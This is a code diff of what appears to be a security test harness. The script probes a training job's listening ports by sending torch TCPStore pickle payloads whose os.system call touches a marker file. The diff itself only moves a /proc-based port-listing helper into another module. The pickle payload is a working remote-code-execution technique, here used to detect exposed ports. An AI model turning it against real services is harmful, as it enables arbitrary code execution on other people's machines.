@@ -7,7 +7,6 @@ knows host and ports, and speaks as torch's store and our side channel do. Print
 
 import base64
 import contextlib
-import ipaddress
 import json
 import os
 import pickle
@@ -37,21 +36,6 @@ class Payload:
         return (os.system, (f"touch {self.file}",))
 
 
-def listeners(pid: int) -> list[tuple[str, int]]:
-    """Addresses and ports at which anybody listens in the namespace of a process."""
-    found = []
-    for name in ("tcp", "tcp6"):
-        for line in Path(f"/proc/{pid}/net/{name}").read_text().splitlines()[1:]:
-            place, state = line.split()[1], line.split()[3]
-            words, port = place.split(":")
-            if state == "0A":
-                raw = b"".join(
-                    bytes.fromhex(words[i : i + 8])[::-1] for i in range(0, len(words), 8)
-                )
-                found.append((str(ipaddress.ip_address(raw)), int(port, 16)))
-    return sorted(found)
-
-
 def attack(port: int, file: Path) -> None:
     """Says to whoever listens what a store, and what the side channel, would take for its own."""
     from torch.distributed import TCPStore
@@ -77,9 +61,9 @@ def main(directory: Path, command: list[str]) -> None:
     metrics, file = directory / "out" / "metrics.jsonl", directory / "executed"
     while job.poll() is None and not (metrics.exists() and metrics.stat().st_size):
         time.sleep(0.05)
-    open_to_all = [place for place in listeners(job.pid) if not place[0].startswith("127.")]
-    reached = []
-    for _, port in listeners(job.pid):
+    places, reached = two_hosts.listeners(job.pid), []
+    open_to_all = [place for place in places if not place[0].startswith("127.")]
+    for _, port in places:
         with contextlib.suppress(ConnectionRefusedError):
             attack(port, file)
             reached.append(port)
